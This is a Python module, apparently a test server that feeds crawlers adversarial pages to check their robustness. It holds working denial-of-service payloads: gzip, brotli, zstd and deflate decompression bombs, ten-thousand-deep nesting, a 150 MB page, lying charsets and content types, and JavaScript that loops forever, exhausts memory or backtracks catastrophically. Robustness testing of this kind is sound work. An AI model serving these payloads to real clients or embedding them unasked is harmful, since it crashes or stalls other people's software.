"""Attacks by what is within a page: bombs, depth, size, lies, programs without end."""

import gzip
import zlib
from collections.abc import Callable
from functools import cache
from random import Random

import brotli  # type: ignore[import-untyped]
from backports import zstd
from pieces import BOMB, SPACES, Pieces, head, link_out, page, way_out, whole

DEPTH = 10_000
PAGE = 150 * 10**6  # bytes of the large page


def nesting(rest: str) -> Pieces:
    """Nest elements, brackets and quotes of every format ten thousand deep."""
    if not rest:
        return page(*(f"/nesting/{name}" for name in _NESTS), way_out("nesting"))
    kind, first, last, middle = _NESTS[rest[1:]]
    return whole(first * DEPTH + middle + last * DEPTH, kind)


_LINK = link_out("nested")
_NESTS: dict[str, tuple[str, str, str, str]] = {
    "div": ("text/html", "<div>", "</div>", _LINK),
    "format": ("text/html", "<b><i><font><a>", "", _LINK),
    "table": ("text/html", "<table><tr><td>", "</table>", _LINK),
    "frames": ("text/html", "<frameset><noframes>", "", _LINK),
    "template": ("text/html", "<template><svg><math>", "", _LINK),
    "select": ("text/html", "<select><option>", "", _LINK),
    "xml": ("application/xml", "<a>", "</a>", "<b href='/nesting'/>"),
    "svg": ("image/svg+xml", "<g xmlns='http://www.w3.org/2000/svg'>", "</g>", _LINK),
    "feed": ("application/rss+xml", "<rss><channel><item>", "", "<link>/nesting</link>"),
    "json": ("application/json", '[{"a":', "}]", '"/nesting"'),
    "ld": ("application/ld+json", '{"@graph":[', "]}", '"/nesting"'),
    "css": ("text/css", "@media all{a:is(", ")}", "url(/nesting)"),
    "js": ("text/javascript", "(function(){[", "]})()", "'/nesting'"),
    "js-calls": ("text/javascript", "a(", ")", "'/nesting'"),
    "rtf": ("application/rtf", "{\\rtf1 {\\field ", "}}", "/nesting"),
    "smil": ("application/smil", "<smil><seq><par>", "", "<audio src='/nesting'/>"),
    "dash": ("application/dash+xml", "<MPD><Period>", "", "<BaseURL>/nesting</BaseURL>"),
}


def big(rest: str) -> Pieces:
    """Give an HTML page of 150 megabytes, with a way out at its beginning."""
    if rest:
        yield from page("/big")
        return
    filler = "<p>" + "All human beings are born free and equal in dignity. " * 1200
    yield head("text/html") + f"<p>{link_out('big')}".encode()
    for number in range(PAGE // len(filler)):
        yield f"{filler}<a href=/big?{number}>more</a>\n".encode()
    yield "close"


_FIRST = {"html": f"<p>{link_out('bombs')}", "xml": "<?xml version='1.0'?><a href='/bombs'>"}


def bombs(rest: str) -> Pieces:
    """Send bombs of every coding, though nobody asked for them."""
    if not rest:
        return page(*(f"/bombs/{coding}" for coding in _PACKED), way_out("bombs"))
    data = _packed(rest[1:])
    if rest == "/gz":
        return whole(data, "application/gzip")
    coding = {"twice": "gzip, gzip"}.get(rest[1:], rest[1:])
    return whole(data, "text/html", f"Content-Encoding: {coding}")


@cache
def _packed(coding: str) -> bytes:
    return _PACKED[coding]()


def _gzip() -> bytes:
    return (
        gzip.compress(_FIRST["html"].encode(), 1, mtime=0)
        + gzip.compress(SPACES, 9, mtime=0) * BOMB
    )


def _deflate() -> bytes:
    packer = zlib.compressobj(9)
    pieces = [packer.compress(SPACES) for _ in range(BOMB // 5)]
    return b"".join([*pieces, packer.flush()])


def _brotli() -> bytes:
    packer = brotli.Compressor(quality=1)
    pieces = [packer.process(SPACES) for _ in range(BOMB)]
    return b"".join([*pieces, packer.finish()])


def _zstd() -> bytes:
    return zstd.compress(_FIRST["html"].encode()) + zstd.compress(SPACES) * BOMB


_PACKED: dict[str, Callable[[], bytes]] = {
    "gzip": _gzip,
    "deflate": _deflate,
    "br": _brotli,
    "zstd": _zstd,
    "twice": lambda: gzip.compress(_gzip(), mtime=0),
    "gz": lambda: gzip.compress(_FIRST["xml"].encode(), mtime=0) + gzip.compress(SPACES) * BOMB,
    "compress": lambda: b"\x1f\x9d\x90" + bytes(1000),
}


def charsets(rest: str) -> Pieces:
    """Say charsets that are not those of the text, contradict each other, or do not exist."""
    if not rest:
        return page(
            *(f"/charsets/{number}" for number in range(len(_CHARSETS))), way_out("charsets")
        )
    charset, text = _CHARSETS[int(rest[1:])]
    return whole(text, f"text/html; charset={charset}")


_PAGE = "<p>Père Noël <a href=/charsets>é</a>"
_CHARSETS = [
    ("utf-16", _PAGE.encode("latin-1")),
    ("latin-1", _PAGE.encode("utf-16")),
    ("utf-8", _PAGE.encode("latin-1") + b"\xff\xfe\xc0\x80"),
    ("klingon", _PAGE.encode()),
    ("\xff\xfe", _PAGE.encode()),
    ("a" * 10_000, _PAGE.encode()),
    ("utf-7", b"+ADw-a href=/leak+AD4-"),
    ("idna", _PAGE.encode()),
    ("zlib_codec", _PAGE.encode()),
    ("utf-32", _PAGE.encode("utf-32")),
    ("iso-2022-jp", b"\x1b$B" + b"<a href=/charsets>" * 1000),
    ("gb18030", b"\x81\x30" * 50_000 + _PAGE.encode("latin-1")),
    ("", b"<meta charset=utf-16><meta charset=klingon>" * 100 + _PAGE.encode("latin-1")),
    ("utf-8", b"\xff\xfe" + _PAGE.encode("utf-16-le")),
]


def lies(rest: str) -> Pieces:
    """Say of each content the type of every other."""
    if not rest:
        return page(*(f"/lies/{number}" for number in range(len(TYPES) * len(_CONTENTS))),
                    way_out("lies"))  # fmt: skip
    kind, content = divmod(int(rest[1:]), len(_CONTENTS))
    return whole(_CONTENTS[content], TYPES[kind])


TYPES = (
    "text/html", "application/xhtml+xml", "image/svg+xml", "text/css", "text/javascript",
    "application/json", "application/ld+json", "application/manifest+json", "application/xml",
    "application/rss+xml", "application/sitemap+xml", "application/pdf", "application/msword",
    "application/rtf", "application/x-shockwave-flash", "application/gzip", "text/plain",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "application/vnd.oasis.opendocument.text", "application/epub+zip", "audio/x-scpls",
    "audio/x-mpegurl", "audio/x-pn-realaudio", "video/x-ms-asf", "application/smil",
    "application/dash+xml", "application/xspf+xml", "text/vtt", "application/feed+json",
    "application/importmap+json", "application/x-httpd-imap", "application/octet-stream",
    "application/internet-shortcut", "image/png", "", "nonsense", "/", "text/html;;;;", "\xff",
)  # fmt: skip
_CONTENTS = (
    b"<!doctype html><p><a href=/lies>in HTML</a>",
    b"\x89PNG\r\n\x1a\n" + Random(2).randbytes(5000),
    b'{"url": ["/lies", {"a": "/lies"}]}',
    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 1 0 R>> endobj trailer <</Root 1 0 R>>",
    b"PK\x03\x04" + Random(3).randbytes(5000),
    Random(4).randbytes(60_000),
    b"",
)


def scripts(rest: str) -> Pieces:
    """Run for ever, eat memory, write scripts that write scripts."""
    if not rest:
        return page(*(f"/scripts/{name}{end}" for name in _SCRIPTS for end in (".js", ".html")),
                    way_out("scripts"))  # fmt: skip
    name, _, kind = rest[1:].partition(".")
    if kind == "js":
        return whole(_SCRIPTS[name], "text/javascript")
    return whole(f"<p>{link_out('scripts')}<script>'/scripts';{_SCRIPTS[name]}</script>")


_SCRIPTS = {
    "loop": "location.href = '/scripts'; for (;;) {}",
    "promise": "(function f() { Promise.resolve().then(f) })(); location = '/scripts'",
    "timer": "(function f() { setTimeout(f, 0); setTimeout(f, 0) })(); location = '/scripts'",
    "memory": "location = '/scripts'; var a = []; for (;;) a.push(new Array(100000).fill(a))",
    "string": "location = '/scripts'; var s = 'a'; for (;;) s += s",
    "recursion": "location = '/scripts'; (function f() { f() })()",
    "regex": "location = '/scripts'; /^(a+)+$/.test('a'.repeat(50) + 'b')",
    "sort": "location = '/scripts'; new Array(1e7).fill(1).sort(() => Math.random() - 0.5)",
    "links": "for (var i = 0; i < 1e6; i++) location.href = '/scripts?' + i",
    "writer": "var s = document.scripts; document.write('<script>location=\"/scripts\";'"
    " + arguments.callee + '<\\/script>'.repeat(1000))",
    "writes": "for (;;) document.write('<a href=/scripts>' + 'x'.repeat(10000))",
    "eval": "(function f(n) { eval('location=\"/scripts\";f(' + (n + 1) + ')') })(0)",
    "getter": "Object.prototype.__defineGetter__('href', function f() { return this.href });"
    "location = '/scripts'; ({}).href",
    "proxy": "location = '/scripts'; var p = new Proxy({}, {get: () => p}); for (;;) p = p.a.b.c",
    "throw": "location = '/scripts'; throw {toString() { for (;;) {} }}",
    "string-literal": "location = '" + "/scripts?" * 100_000 + "'",
    "unended": "location = '/scripts'; `${" * 5000 + "/*",
}


def weights(rest: str) -> Pieces:
    """Give pages that are heavy in one way each."""
    if not rest:
        return page(*(f"/weights/{name}" for name in _WEIGHTS), way_out("weights"))
    return whole(_WEIGHTS[rest[1:]] + link_out("weights"))


_WEIGHTS = {
    "attributes": "<a " + "".join(f"b{n}=c " for n in range(200_000)) + ">",
    "same": "<a " + "href=/weights " * 200_000 + ">",
    "unclosed": "<a href='/weights?" * 100_000,
    "comments": "<!--" * 300_000 + "-->",
    "bases": "<base href=/weights/>" * 100_000,
    "metas": "<meta http-equiv=refresh content='0;url=/weights'>" * 50_000,
    "scripts": "<script>'/weights'</script>" * 50_000,
    "styles": "<style>a{b:url(/weights)}</style>" * 50_000,
    "srcdocs": "<iframe srcdoc='<a href=/weights>'>" * 20_000,
    "entities": "<a href='/weights?" + "&notit;&#x41;" * 200_000 + "'>",
    "cdata": "<svg><![CDATA[" * 100_000,
    "nulls": "\0" * 1_000_000,
    "templates": "<script type=importmap>{}</script><script type='application/ld+json'>{" * 5000,
}

BODIES: dict[str, Callable[[str], Pieces]] = {
    each.__name__: each for each in (nesting, big, bombs, charsets, lies, scripts, weights)
}
MORE_WAYS_OUT = ("nested",)
